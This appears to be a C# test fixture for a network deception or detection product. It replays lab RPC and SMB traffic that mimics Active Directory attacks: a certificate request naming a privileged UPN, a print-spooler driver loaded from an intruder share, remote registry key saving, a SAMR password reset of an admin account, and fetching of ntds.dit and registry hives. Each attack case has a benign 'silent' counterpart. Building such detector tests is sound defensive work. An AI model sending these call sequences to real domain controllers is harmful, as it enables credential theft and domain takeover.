using System.Text;
using Deception.Protocols.Rpc;
using static Deception.Tests.Replay.Generated.RpcBytes;

namespace Deception.Tests.Replay.Generated;

/// <summary>Calls that the lab's Samba doesn't serve, or that take more hosts than it has. Controller DC1 at 10.1.0.10.</summary>
internal static class RpcCases
{
    private const string Controller = "10.1.0.10", Desk = "10.1.0.20", Intruder = "10.1.0.30", Authority = "10.1.0.40", Printer = "10.1.0.41", Files = "10.1.0.50";

    private static readonly byte[] Handle = new byte[20];
    private static readonly byte[] Pointer = [0, 0, 2, 0];

    public static Dictionary<string, Action<Wire>> All { get; } = new()
    {
        ["drsuapi.name-cracking/eighty-names"] = w => CrackNames(w, 80),
        ["drsuapi.name-cracking/silent-ten-names"] = w => CrackNames(w, 10),
        ["rpc.certificate-request/another-subject"] = w => RequestCertificate(w, "CertificateTemplate:User\nsan:upn=t0-adm@corp.test"),
        ["rpc.certificate-request/silent-own-subject"] = w => RequestCertificate(w, "CertificateTemplate:User"),
        ["rpc.group-key-service/not-listed"] = w => GetKey(w, Intruder),
        ["rpc.group-key-service/silent-listed"] = w => GetKey(w, Desk),
        ["rpc.print-spooler-exploit/driver-of-another-host"] = w => AddDriver(w, $@"\\{Intruder}\drivers\unidrv.dll"),
        ["rpc.print-spooler-exploit/silent-driver-of-the-server"] = w => AddDriver(w, @"C:\Windows\System32\DriverStore\unidrv.dll"),
        ["rpc.secrets-dump/saved-and-fetched"] = w => SaveKeys(w, 3, fetch: true),
        ["rpc.secrets-dump/silent-one-key"] = w => SaveKeys(w, 1, fetch: false),
        ["samr.password-reset/privileged-account"] = w => SetInformation(w, "t0-adm", 26),
        ["samr.password-reset/silent-another-class"] = w => SetInformation(w, "t0-adm", 16),
        ["smb.directory-database-exfiltration/database"] = w => Fetch(w, @"Windows\Temp\ntds.dit"),
        ["smb.directory-database-exfiltration/hives"] = w => Fetch(w, @"Temp\SYSTEM.hiv", @"Temp\SECURITY.hiv"),
        ["smb.directory-database-exfiltration/silent-name-alone"] = w => Fetch(w, @"Projects\system", @"Projects\notes-on-ntds.dit.txt"),
        ["srvsvc.share-enumeration/seven-hosts"] = w => EnumerateShares(w, 7),
        ["srvsvc.share-enumeration/silent-three-hosts"] = w => EnumerateShares(w, 3),
    };

    // IDL_DRSCrackNames (MS-DRSR 4.1.4): handle, version, request with one name.
    private static void CrackNames(Wire wire, int count)
    {
        var talk = wire.Connect($"{Intruder}:40001", $"{Controller}:49155").Ask(Bind(RpcInterfaces.Drsuapi, 4)).Answer(Bound("49155"));
        for (var i = 0; i < count; i++)
        {
            var stub = Stub(Handle, [1, 0, 0, 0, 1, 0, 0, 0, .. new byte[24], 1, 0, 0, 0], Pointer, [1, 0, 0, 0], Pointer, Text($"corp\\user{i}"));
            talk.Ask(Request(12, stub, (byte)(i + 2))).Answer(Response([.. new byte[60]], (byte)(i + 2)));
            wire.Wait(TimeSpan.FromMilliseconds(200));
        }
    }

    // CertServerRequest (MS-ICPR 3.2.4.1.1): flags, authority, request id, attributes as a blob, the request.
    private static void RequestCertificate(Wire wire, string attributes)
    {
        var blob = Encoding.Unicode.GetBytes(attributes + "\0");
        var stub = Stub([0, 0, 0, 0], Pointer, Text("CORP-CA"), [0, 0, 0, 0], BitConverter.GetBytes(blob.Length), Pointer, BitConverter.GetBytes(blob.Length), blob,
            [4, 0, 0, 0], Pointer, [4, 0, 0, 0], [0x30, 2, 5, 0]);
        wire.Connect($"{Intruder}:40002", $"{Authority}:49160").Ask(Bind(RpcInterfaces.Icpr, 0)).Answer(Bound("49160")).Ask(Request(0, stub)).Answer(Response(new byte[40]));
    }

    // GetKey (MS-GKDI 3.1.4.1): security descriptor, root key, three indices.
    private static void GetKey(Wire wire, string source)
    {
        var stub = Stub(BitConverter.GetBytes(20), BitConverter.GetBytes(20), new byte[20], Pointer, Guid.Parse("5d4f0e8a-0f5b-4b6e-9d3c-1a2b3c4d5e6f").ToByteArray(), new byte[12]);
        wire.Connect($"{source}:40003", $"{Controller}:49161").Ask(Bind(RpcInterfaces.Gkdi, 1)).Answer(Bound("49161")).Ask(Request(0, stub)).Answer(Response(new byte[200]));
    }

    // RpcAsyncAddPrinterDriver (MS-PAR 3.1.4.2.2): server, DRIVER_CONTAINER of level 2 with its files' paths, flags.
    private static void AddDriver(Wire wire, string path)
    {
        var stub = Stub(Pointer, Text($@"\\{Printer}"), [2, 0, 0, 0, 2, 0, 0, 0], Pointer, [3, 0, 0, 0], Pointer, Pointer, Pointer, Pointer, Pointer,
            Text("Universal"), Text("Windows x64"), Text(path), [0x10, 0x80, 0, 0]);
        wire.Connect($"{Intruder}:40004", $"{Printer}:49162").Ask(Bind(RpcInterfaces.Par, 1)).Answer(Bound("49162")).Ask(Request(39, stub)).Answer(Response([0, 0, 0, 0]));
    }

    // BaseRegSaveKey (MS-RRP 3.1.5.20): handle, RPC_UNICODE_STRING with the file, no security; then the files themselves.
    private static void SaveKeys(Wire wire, int count, bool fetch)
    {
        var talk = new SmbTalk(wire, $"{Intruder}:40005", Files, "helper").Tree($@"\\{Files}\IPC$", isPipe: true).Bind("winreg", RpcInterfaces.Winreg, 1);
        var files = Enumerable.Range(0, count).Select(i => $@"Temp\qw{i}.tmp").ToList();
        foreach (var file in files)
        {
            var bytes = BitConverter.GetBytes((ushort)(2 * (file.Length + 1)));
            talk.Call(20, Stub(Handle, [.. bytes, .. bytes], Pointer, Text(file), [0, 0, 0, 0]));
        }
        if (fetch)
        {
            talk.Tree($@"\\{Files}\ADMIN$", isPipe: false);
            files.ForEach(f => talk.Open(f));
        }
    }

    // SamrLookupNamesInDomain, SamrOpenUser, SamrSetInformationUser2 (MS-SAMR 3.1.5.11.2, 3.1.5.1.9, 3.1.5.6.4).
    private static void SetInformation(Wire wire, string account, byte of)
    {
        var bytes = BitConverter.GetBytes((ushort)(2 * account.Length));
        new SmbTalk(wire, $"{Intruder}:40006", Controller, "helper").Tree($@"\\{Controller}\IPC$", isPipe: true).Bind("samr", RpcInterfaces.Samr, 1)
            .Call(17, Stub(Handle, [1, 0, 0, 0, 0xE8, 3, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, .. bytes, .. bytes], Pointer, Text(account)))
            .Call(34, Stub(Handle, [0, 0, 0, 2, 0xF4, 1, 0, 0]), new byte[24])
            .Call(58, Stub(Handle, [of, 0, of, 0], new byte[532]));
    }

    private static void Fetch(Wire wire, params string[] files)
    {
        var talk = new SmbTalk(wire, $"{Intruder}:40007", Files, "helper").Tree($@"\\{Files}\C$", isPipe: false);
        foreach (var file in files)
        {
            talk.Open(file);
        }
    }

    // NetrShareEnum (MS-SRVS 3.1.4.8): server, level 1, most, resume handle.
    private static void EnumerateShares(Wire wire, int hosts)
    {
        for (var i = 0; i < hosts; i++)
        {
            var server = $"10.1.0.{60 + i}";
            new SmbTalk(wire, $"{Intruder}:{40_010 + i}", server, "helper").Tree($@"\\{server}\IPC$", isPipe: true).Bind("srvsvc", RpcInterfaces.Srvsvc, 3)
                .Call(15, Stub(Pointer, Text(server), [1, 0, 0, 0, 1, 0, 0, 0], Pointer, [0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0, 0]));
            wire.Wait(TimeSpan.FromSeconds(5));
        }
    }
}
